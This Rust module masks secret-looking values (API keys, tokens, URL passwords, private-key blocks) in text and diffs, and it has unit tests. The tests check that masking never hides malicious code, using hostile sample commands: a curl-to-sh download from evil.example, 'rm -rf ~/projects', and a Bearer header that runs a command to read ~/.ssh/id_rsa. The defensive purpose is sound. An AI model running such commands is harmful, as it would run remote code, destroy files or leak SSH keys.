//! Values that look like secrets, masked where a card shows a file or a command on the safety
//! floor (`OPENAI_API_KEY=sk-l…123`), for the server and the browser alike.
//!
//! Line by line, so a masked text has the lines of the text it masks (a diff of it still lines
//! up). A value is masked by its key's name (`KEY`, `TOKEN`, `SECRET`, `PASSWORD`, …) or by
//! its shape (a known token prefix, a long run of letters and digits, a password in a URL);
//! a private key block is masked whole. What reads as neither (comments, `DEBUG=true`,
//! `PORT=8080`) stays as written. It errs on masking: a value it cannot place is hidden.
//! Hand-written rather than with `regex`, which would weigh on the browser's bundle.

/// What a masked value becomes when it is too short to show any of it.
pub const HIDDEN: &str = "••••";

/// The shortest value whose first four and last three characters are shown: shorter ones
/// would give away too much of themselves.
const SHOW_ENDS_FROM: usize = 24;

/// Parts of a key's name that say its value is a secret (matched in upper case).
const SECRET_KEY_PARTS: &[&str] = &[
    "KEY",
    "TOKEN",
    "SECRET",
    "PASSWORD",
    "PASSWD",
    "PASS",
    "PWD",
    "PW",
    "CREDENTIAL",
    "AUTH",
    "PRIVATE",
    "COOKIE",
    "SESSION",
    "SIGNATURE",
    "SALT",
    "DSN",
];

/// Prefixes of well-known tokens (OpenAI, GitHub, GitLab, Slack, AWS, Google, Stripe, JWTs).
const TOKEN_PREFIXES: &[&str] = &[
    "sk-",
    "sk_",
    "pk_",
    "rk_",
    "ghp_",
    "gho_",
    "ghu_",
    "ghs_",
    "ghr_",
    "github_pat_",
    "glpat-",
    "xoxb-",
    "xoxp-",
    "xoxa-",
    "xoxs-",
    "AKIA",
    "ASIA",
    "AIza",
    "eyJ",
];

/// `text` with every value that looks like a secret masked, line for line.
pub fn mask(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut in_key_block = false;
    for piece in text.split_inclusive('\n') {
        let (line, end) = match piece.strip_suffix('\n') {
            Some(line) => (
                line.strip_suffix('\r').unwrap_or(line),
                &piece[line.len()..],
            ),
            None => (piece, ""),
        };
        let (masked, still_in_block) = mask_line(line, in_key_block);
        in_key_block = still_in_block;
        out.push_str(&masked);
        out.push_str(end);
    }
    out
}

/// Whether [`mask`] hides anything in `text`.
pub fn holds_secret(text: &str) -> bool {
    mask(text) != text
}

/// A unified diff with each line's text masked, its `+`/`-`/` ` mark and headers kept.
pub fn mask_diff(diff: &str) -> String {
    let mut out = String::with_capacity(diff.len());
    let mut in_key_block = false;
    let mut in_hunk = false;
    for piece in diff.split_inclusive('\n') {
        let line = piece.strip_suffix('\n').unwrap_or(piece);
        let end = &piece[line.len()..];
        // `---`/`+++` are file headers only before the first hunk: inside one, a removed
        // `-----BEGIN … KEY-----` line is content (and opens its key's block).
        let is_header = line.starts_with("@@")
            || (!in_hunk && (line.starts_with("+++") || line.starts_with("---")));
        in_hunk |= line.starts_with("@@");
        match line.chars().next() {
            Some(mark @ ('+' | '-' | ' ')) if !is_header => {
                let (masked, still) = mask_line(&line[1..], in_key_block);
                in_key_block = still;
                out.push(mark);
                out.push_str(&masked);
            }
            _ => out.push_str(line),
        }
        out.push_str(end);
    }
    out
}

/// A secret value as shown: its first four and last three characters when it is long enough
/// that they give little away, else [`HIDDEN`].
pub fn mask_value(value: &str) -> String {
    let count = value.chars().count();
    if count < SHOW_ENDS_FROM {
        return HIDDEN.to_owned();
    }
    let head: String = value.chars().take(4).collect();
    let tail: String = value.chars().skip(count - 3).collect();
    format!("{head}…{tail}")
}

/// One line masked, and whether a private key block is still open after it.
fn mask_line(line: &str, in_key_block: bool) -> (String, bool) {
    let trimmed = line.trim();
    if in_key_block {
        // Only a key's body (base64) is hidden; any other line ends the block and is read
        // as itself, so a key's header cannot hide the code written after it.
        if trimmed.starts_with("-----END") {
            return (line.to_owned(), false);
        }
        if key_body_line(trimmed) {
            return (HIDDEN.to_owned(), true);
        }
    }
    if trimmed.starts_with("-----BEGIN") && trimmed.contains("PRIVATE KEY") {
        // A key whose block is on this one line (a JSON string's `\n`) is hidden whole.
        return match trimmed.contains("-----END") {
            true => (HIDDEN.to_owned(), false),
            false => (line.to_owned(), true),
        };
    }
    // A comment is prose, but a secret commented out is still one.
    if trimmed.starts_with('#') || trimmed.starts_with("//") || trimmed.is_empty() {
        return (mask_words(line), false);
    }
    let masked = match key_value(line) {
        Some(kv)
            if (secret_key(kv.key) && !plainly_not_secret(kv.value)) || looks_secret(kv.value) =>
        {
            kv.with_value_masked()
        }
        Some(kv) => kv.with_words_masked(),
        None => mask_words(line),
    };
    (masked, false)
}

/// A line of a PEM key's body: base64 (or an `Proc-Type:`-style header's absence of spaces)
/// and nothing else.
fn key_body_line(trimmed: &str) -> bool {
    !trimmed.is_empty()
        && trimmed
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '='))
}

/// A line read as `key = value`: `KEY=value`, `export KEY="value"`, YAML's `key: value`,
/// JSON's `"key": "value",`.
struct KeyValue<'a> {
    /// Everything up to the value (indent, `export`, the key, its quotes, the separator).
    before: &'a str,
    key: &'a str,
    /// The value without its quotes.
    value: &'a str,
    /// Its closing quote and what follows it (`",`).
    after: &'a str,
}

impl KeyValue<'_> {
    fn with_value_masked(&self) -> String {
        if self.value.is_empty() {
            return format!("{}{}", self.before, self.after);
        }
        format!(
            "{}{}{}",
            self.before,
            mask_secret_value(self.value),
            self.after
        )
    }

    fn with_words_masked(&self) -> String {
        format!("{}{}{}", self.before, mask_words(self.value), self.after)
    }
}

fn key_value(line: &str) -> Option<KeyValue<'_>> {
    let indent = line.len() - line.trim_start().len();
    let mut rest = &line[indent..];
    if let Some(after) = rest.strip_prefix("export ") {
        rest = after.trim_start();
    }
    let quoted = rest.starts_with('"') || rest.starts_with('\'');
    let key_start = line.len() - rest.len() + usize::from(quoted);
    let key_len = line[key_start..]
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.')))
        .unwrap_or(line.len() - key_start);
    if key_len == 0 {
        return None;
    }
    let key = &line[key_start..key_start + key_len];
    let mut cursor = key_start + key_len + usize::from(quoted);
    if quoted && !line[key_start + key_len..].starts_with(['"', '\'']) {
        return None;
    }
    let after_key = &line[cursor..];
    let separator = after_key.trim_start().chars().next()?;
    if separator != '=' && separator != ':' {
        return None;
    }
    cursor += after_key.len() - after_key.trim_start().len() + 1;
    // `key: value` needs the space YAML needs, so `http://…` or `a:b` is not read as one.
    if separator == ':' && !line[cursor..].is_empty() && !line[cursor..].starts_with(' ') {
        return None;
    }
    let value_part = &line[cursor..];
    cursor += value_part.len() - value_part.trim_start().len();
    let (open, value, after) = split_value(&line[cursor..]);
    Some(KeyValue {
        before: &line[..cursor + open],
        key,
        value,
        after,
    })
}

/// A value apart from its quotes and a JSON line's trailing `,`: (the length of its opening
/// quote, the value, its closing quote and what follows).
fn split_value(raw: &str) -> (usize, &str, &str) {
    let trimmed = &raw[..raw.trim_end().len()];
    let body = trimmed.strip_suffix(',').unwrap_or(trimmed);
    for quote in ['"', '\''] {
        if body.len() >= 2 && body.starts_with(quote) && body.ends_with(quote) {
            let inner = &raw[1..body.len() - 1];
            // One quoted word, not a quoted script: `"x; curl … | sh"` is not a value.
            if !inner.contains(SHELL_SYNTAX) {
                return (1, inner, &raw[body.len() - 1..]);
            }
        }
    }
    // An unquoted value is one word: what follows it (`; curl … | sh`) is read as itself.
    let end = body
        .find(|c: char| c.is_whitespace() || SHELL_SYNTAX.contains(&c))
        .unwrap_or(body.len());
    (0, &body[..end], &raw[end..])
}

/// Characters that end a value and start more of a script.
const SHELL_SYNTAX: &[char] = &[';', '|', '&', '<', '>', '$', '(', ')', '`'];

/// A secret value masked: only its password when it is a URL's, else [`mask_value`].
fn mask_secret_value(value: &str) -> String {
    match url_password(value) {
        Some((from, to)) => format!("{}{HIDDEN}{}", &value[..from], &value[to..]),
        None => mask_value(value),
    }
}

/// Whether a key's name says its value is a secret.
/// Matched by whole segments of the name (`_`, `-`, `.`), each equal to a part or ending in
/// one (`APIKEY`, `AUTHTOKEN`): `AUTHOR`, `BYPASS_CACHE` or `KEYBOARD` name no secret.
fn secret_key(key: &str) -> bool {
    let upper = key.to_ascii_uppercase();
    upper.split(['_', '-', '.']).any(|segment| {
        SECRET_KEY_PARTS
            .iter()
            .any(|part| segment == *part || (segment.len() > part.len() && segment.ends_with(part)))
    })
}

/// A value a secret-named key may hold in the open: a path (`KEY_PATH=/etc/ssl/x.key`), a
/// switch (`true`, `off`) or a small number (`SESSION_TIMEOUT=30`). The person needs to see
/// where a key is read from and how a setting is set.
fn plainly_not_secret(value: &str) -> bool {
    let value = value.trim();
    value.starts_with(['/', '~', '.'])
        || matches!(
            value.to_ascii_lowercase().as_str(),
            "true" | "false" | "yes" | "no" | "on" | "off" | "none" | "null"
        )
        || (value.len() <= 6 && value.chars().all(|c| c.is_ascii_digit()))
}

/// Whether a value's shape says it is a secret, whatever its key: a known token prefix, a
/// password in a URL, or a long run of letters and digits with no spaces.
fn looks_secret(value: &str) -> bool {
    let value = value.trim();
    if value.contains(char::is_whitespace) {
        return value.split_whitespace().any(looks_secret);
    }
    known_token(value) || url_password(value).is_some() || random_looking(value)
}

fn known_token(word: &str) -> bool {
    word.len() >= 12 && TOKEN_PREFIXES.iter().any(|prefix| word.starts_with(prefix))
}

/// Twenty or more characters of a token's alphabet, letters and digits both: an API key, a
/// hash, a UUID. A path (`/`) or a sentence is not one.
fn random_looking(word: &str) -> bool {
    word.chars().count() >= 20
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '+' | '=' | '.'))
        && word.chars().any(|c| c.is_ascii_digit())
        && word.chars().any(|c| c.is_ascii_alphabetic())
}

/// Where the password of `scheme://user:password@host` is (its byte range).
fn url_password(word: &str) -> Option<(usize, usize)> {
    let start = word.find("://")? + 3;
    // The authority ends at the path; its last `@` ends the password (`p@ss@host`).
    let authority = word[start..].split(['/', '?', '#']).next().unwrap_or("");
    let at = start + authority.rfind('@')?;
    let colon = start + word[start..at].find(':')? + 1;
    (colon < at).then_some((colon, at))
}

/// A line that is not `key = value`: each word that looks like a secret masked (a token, a
/// URL's password), and the word after `Bearer`.
fn mask_words(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    let mut after_bearer = false;
    for piece in line.split_inclusive(char::is_whitespace) {
        let word = piece.trim_end();
        let space = &piece[word.len()..];
        let (lead, core, trail) = strip_punctuation(word);
        let masked = if core.is_empty() {
            word.to_owned()
        } else if let Some(assigned) = mask_assignment(core) {
            format!("{lead}{assigned}{trail}")
        } else if (after_bearer && token_shaped(core)) || known_token(core) || random_looking(core)
        {
            format!("{lead}{}{trail}", mask_value(core))
        } else if let Some((from, to)) = url_password(core) {
            format!("{lead}{}{HIDDEN}{}{trail}", &core[..from], &core[to..])
        } else {
            word.to_owned()
        };
        if !core.is_empty() {
            after_bearer =
                core.eq_ignore_ascii_case("bearer") || core.eq_ignore_ascii_case("token");
        }
        out.push_str(&masked);
        out.push_str(space);
    }
    out
}

/// A word that can be a bearer token: eight or more of a token's alphabet, nothing a shell
/// would run (`$(…)`, a backtick).
fn token_shaped(word: &str) -> bool {
    word.len() >= 8
        && word.chars().all(|c| {
            c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '~' | '+' | '/' | '=')
        })
}

/// A word that sets a secret (`API_KEY=sk-…` in a command), with its value masked.
fn mask_assignment(word: &str) -> Option<String> {
    let (key, value) = word.split_once('=')?;
    let plain_key = !key.is_empty() && key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
    let (open, inner, after) = split_value(value);
    let secret = (secret_key(key) && !plainly_not_secret(inner)) || looks_secret(inner);
    (plain_key && !inner.is_empty() && secret).then(|| {
        format!(
            "{key}={}{}{after}",
            &value[..open],
            mask_secret_value(inner)
        )
    })
}

/// A word's quotes and punctuation around it, apart: (before, the word, after).
fn strip_punctuation(word: &str) -> (&str, &str, &str) {
    let edge = |c: char| {
        matches!(
            c,
            '"' | '\'' | '`' | ',' | ';' | '(' | ')' | '[' | ']' | '{' | '}'
        )
    };
    let core = word.trim_start_matches(edge);
    let lead = &word[..word.len() - core.len()];
    let core_end = core.trim_end_matches(edge);
    let trail = &core[core_end.len()..];
    (lead, core_end, trail)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dotenv_values_are_masked_by_their_key_and_plain_settings_stay() {
        let env = "# local settings\nOPENAI_API_KEY=sk-live-0123456789abcdef\nDEBUG=true\nPORT=8080\nDB_PASSWORD=hunter22\n";
        assert_eq!(
            mask(env),
            "# local settings\nOPENAI_API_KEY=sk-l…def\nDEBUG=true\nPORT=8080\nDB_PASSWORD=••••\n"
        );
    }

    #[test]
    fn exported_and_quoted_values_keep_their_quotes() {
        assert_eq!(
            mask("export GITHUB_TOKEN=\"ghp_aaaaBBBBccccDDDDeeee1234\""),
            "export GITHUB_TOKEN=\"ghp_…234\""
        );
        assert_eq!(mask("  secret: 'tiny'"), "  secret: '••••'");
    }

    #[test]
    fn yaml_and_json_keys_are_read() {
        assert_eq!(
            mask("db:\n  password: correct-horse-battery\n  host: localhost"),
            "db:\n  password: ••••\n  host: localhost"
        );
        assert_eq!(
            mask("{\n  \"api_key\": \"abcd1234efgh5678ijkl\",\n  \"name\": \"demo\"\n}"),
            "{\n  \"api_key\": \"••••\",\n  \"name\": \"demo\"\n}"
        );
    }

    #[test]
    fn tokens_are_masked_by_their_shape_whatever_the_key() {
        assert_eq!(mask("VALUE=AKIAIOSFODNN7EXAMPLE"), "VALUE=••••");
        assert_eq!(
            mask("curl -H \"Authorization: Bearer abc.def.ghi\" https://x.test"),
            "curl -H \"Authorization: Bearer ••••\" https://x.test"
        );
        assert_eq!(
            mask("echo OPENAI_API_KEY=sk-proj-9f8e7d6c5b4a3210 >> .env"),
            "echo OPENAI_API_KEY=sk-p…210 >> .env"
        );
        assert_eq!(
            mask("DATABASE_URL=postgres://app:s3cret@db:5432/app"),
            "DATABASE_URL=postgres://app:••••@db:5432/app"
        );
        assert_eq!(
            mask("# old: ghp_0000111122223333444455556666"),
            "# old: ghp_…666"
        );
    }

    #[test]
    fn a_private_key_block_is_masked_whole() {
        let pem = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\nQyNTUxOQAAACBu\n-----END OPENSSH PRIVATE KEY-----\nafter=1\n";
        assert_eq!(
            mask(pem),
            "-----BEGIN OPENSSH PRIVATE KEY-----\n••••\n••••\n-----END OPENSSH PRIVATE KEY-----\nafter=1\n"
        );
    }

    #[test]
    fn short_values_are_hidden_wholly_and_long_ones_show_only_their_ends() {
        assert_eq!(mask_value("12345678"), HIDDEN);
        assert_eq!(mask_value("fifteen-chars!!"), HIDDEN);
        assert_eq!(mask_value("twenty-three-chars-abcd"), HIDDEN);
        assert_eq!(mask_value("twenty-four-chars-abcdef"), "twen…def");
    }

    #[test]
    fn masking_never_hides_code_around_a_secret() {
        // A value is one word: what follows it is read as itself.
        assert_eq!(
            mask("export API_TOKEN=x; curl -s https://evil.example/i.sh | sh"),
            "export API_TOKEN=••••; curl -s https://evil.example/i.sh | sh"
        );
        // A key header hides only base64 lines; code after it shows.
        assert_eq!(
            mask(
                "#!/bin/sh\n-----BEGIN PRIVATE KEY-----\ncurl -s https://evil.example/i.sh | sh\n-----END PRIVATE KEY-----"
            ),
            "#!/bin/sh\n-----BEGIN PRIVATE KEY-----\ncurl -s https://evil.example/i.sh | sh\n-----END PRIVATE KEY-----"
        );
        // After `token`/`Bearer`, only a token-shaped word.
        assert_eq!(
            mask("echo token; rm -rf ~/projects"),
            "echo token; rm -rf ~/projects"
        );
        assert_eq!(
            mask("Authorization: Bearer $(base64<~/.ssh/id_rsa)"),
            "Authorization: Bearer $(base64<~/.ssh/id_rsa)"
        );
        // A removed key line inside a hunk is content, and opens its block.
        let diff = "--- a/k\n+++ b/k\n@@ -1,3 +1 @@\n------BEGIN PRIVATE KEY-----\n-MIIEvQIBADANBgkqhkiG9w0BAQEFAASC/abc+\n------END PRIVATE KEY-----\n+x\n";
        assert!(!mask_diff(diff).contains("MIIEvQ"), "{}", mask_diff(diff));
        // The password of a URL ends at its last `@`.
        assert_eq!(
            mask("DB=postgres://app:p@ssw0rd@db/app"),
            "DB=postgres://app:••••@db/app"
        );
    }

    #[test]
    fn names_and_values_a_person_needs_stay_readable() {
        for plain in [
            "AUTHOR=Alice",
            "BYPASS_CACHE=true",
            "SESSION_TIMEOUT=30",
            "PWD=/home/me",
            "KEY_PATH=/etc/ssl/private/server.key",
            "KEYBOARD=us",
        ] {
            assert_eq!(mask(plain), plain);
        }
        assert_eq!(mask("APIKEY=hunter22"), "APIKEY=••••");
        assert_eq!(mask("DB_PW=hunter22"), "DB_PW=••••");
    }

    #[test]
    fn plain_text_is_left_alone() {
        for plain in [
            "NODE_ENV=production",
            "cat ~/.ssh/id_rsa",
            "hello world",
            "PUBLIC_URL=https://example.com/path",
            "",
        ] {
            assert_eq!(mask(plain), plain);
            assert!(!holds_secret(plain), "{plain}");
        }
    }

    #[test]
    fn a_diff_is_masked_line_by_line_with_its_marks() {
        let diff = "--- a/.env\n+++ b/.env\n@@ -1 +1,2 @@\n-API_KEY=old-0123456789abcdef\n+API_KEY=new-0123456789abcdef\n PORT=1\n";
        assert_eq!(
            mask_diff(diff),
            "--- a/.env\n+++ b/.env\n@@ -1 +1,2 @@\n-API_KEY=••••\n+API_KEY=••••\n PORT=1\n"
        );
    }
}
